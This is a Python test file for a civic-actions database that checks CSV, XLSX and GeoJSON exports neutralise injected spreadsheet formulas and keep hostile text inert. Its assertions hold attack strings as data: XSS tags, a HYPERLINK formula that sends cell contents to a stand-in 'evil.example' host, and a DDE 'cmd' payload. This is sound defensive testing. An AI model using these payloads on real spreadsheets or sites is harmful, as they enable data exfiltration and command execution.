"""Hostile texts written to the database (SQLite and PostgreSQL), then exported: no spreadsheet
formula survives (CSV, XLSX), GeoJSON keeps the texts as typed, a re-import finds the same actions."""
from __future__ import annotations

import io

import pytest
import sqlalchemy as sa

from data.accounts.roles import CONTRIBUTOR, User
from data.actions.exports import (
    NUMERIC_COLUMNS,
    export_frame,
    to_csv,
    to_geojson,
    to_xlsx,
)
from data.actions.imports import commit, preview, rejected_rows_csv
from data.actions.workflow import ContributionStore
from data.store import schema
from tests.hostile import catalogue as cat
from tests.hostile.harness import evaluable_csv_cells, evaluable_xlsx_cells, json_texts

TEAM = User("equipe-hostile", CONTRIBUTOR, mode="local")
IMPORTED = ("A01", "A03", "A06", "A34")


@pytest.fixture
def published(engine, contrib_ctx):  # noqa: F811
    """The accepted rows of four hostile files, written in one import each, then published."""
    store = ContributionStore(engine)
    expected: dict[str, tuple[str, str]] = {}
    for case_id in IMPORTED:
        name, data = cat.BY_ID[case_id].payload()
        report = preview(data, name, contrib_ctx, store)
        commit(report, store, TEAM)
        for row in report.rows:
            if row.contribution is not None:
                expected[row.external_id] = (row.contribution.titre, row.contribution.resume)
    with engine.begin() as conn:
        conn.execute(sa.update(schema.actions).values(statut="publiee"))
    return store, expected


def test_hostile_texts_are_stored_exactly(published) -> None:
    store, expected = published
    a = schema.actions.c
    with store.engine.connect() as conn:
        stored = {r.external_id: (r.titre, r.resume) for r in conn.execute(sa.select(a.external_id, a.titre, a.resume))}
    assert stored == expected
    assert stored["html-1"] == ("<img src=x onerror=alert(1)>", "<script>alert(2)</script>")
    assert stored["=1+1"][0] == '=HYPERLINK("http://evil.example/?d="&A1;"clic")'
    assert stored["form-3"][0] == "=1+1 après une tabulation"  # the tab was a surrounding blank
    assert "\x00" not in "".join(t + r for t, r in stored.values())


def test_csv_export_neutralises_every_formula(published, territories) -> None:
    store, expected = published
    data = to_csv(export_frame(store, territories))
    assert evaluable_csv_cells(data, NUMERIC_COLUMNS) == []
    text = data.decode("utf-8-sig")
    assert "'=cmd|' /C calc'!A0" in text and "'@SUM(1;1)" in text and "'+1+1 | Centre social" in text
    assert ";-4,4" in text  # Brest's longitude: a number, never quoted
    assert text.count("\r\n") - 1 == len(expected)


def test_xlsx_export_holds_strings_never_formulas(published, territories) -> None:
    from openpyxl import load_workbook

    store, expected = published
    data = to_xlsx(export_frame(store, territories))
    assert evaluable_xlsx_cells(data, NUMERIC_COLUMNS) == []
    sheet = load_workbook(io.BytesIO(data)).active
    header = [c.value for c in sheet[1]]
    titles = {row[header.index("identifiant")].value: row[header.index("titre")] for row in sheet.iter_rows(min_row=2)}
    cell = titles["'=1+1"]  # the id was neutralised too
    assert cell.data_type == "s" and cell.value == "'" + expected["=1+1"][0]
    longitudes = [row[header.index("longitude")].value for row in sheet.iter_rows(min_row=2)]
    assert all(isinstance(v, float) for v in longitudes) and min(longitudes) < -4


def test_geojson_export_keeps_the_texts_as_typed(published, territories) -> None:
    store, expected = published
    props = json_texts(to_geojson(export_frame(store, territories)))
    assert {p["identifiant"]: (p["name"], p["description"]) for p in props} == expected


def test_csv_export_reimports_as_the_same_actions(published, territories, contrib_ctx) -> None:  # noqa: F811
    store, expected = published
    data = to_csv(export_frame(store, territories))
    report = preview(data, "export.csv", contrib_ctx, store)
    assert report.read == len(expected) and report.rejected == 0, [r.errors for r in report.rows if r.errors]
    assert report.existing == len(expected)  # same ids, same titles: nothing new, nothing lost
    assert {r.external_id: r.contribution.titre for r in report.rows} == {k: v[0] for k, v in expected.items()}


def test_rejected_rows_file_is_neutralised(contrib_ctx, tmp_path) -> None:  # noqa: F811
    from data.store.db import make_engine, migrate

    engine = make_engine(f"sqlite:///{tmp_path / 'r.db'}")
    migrate(engine)
    content = cat.csv_bytes([["identifiant", "titre", "resume"], *[[t, t, ""] for t in cat.FORMULA_TEXTS]])
    report = preview(content, "rejets.csv", contrib_ctx, ContributionStore(engine))
    assert report.rejected == len(cat.FORMULA_TEXTS)
    assert evaluable_csv_cells(rejected_rows_csv(report), ("Ligne",)) == []
    engine.dispose()
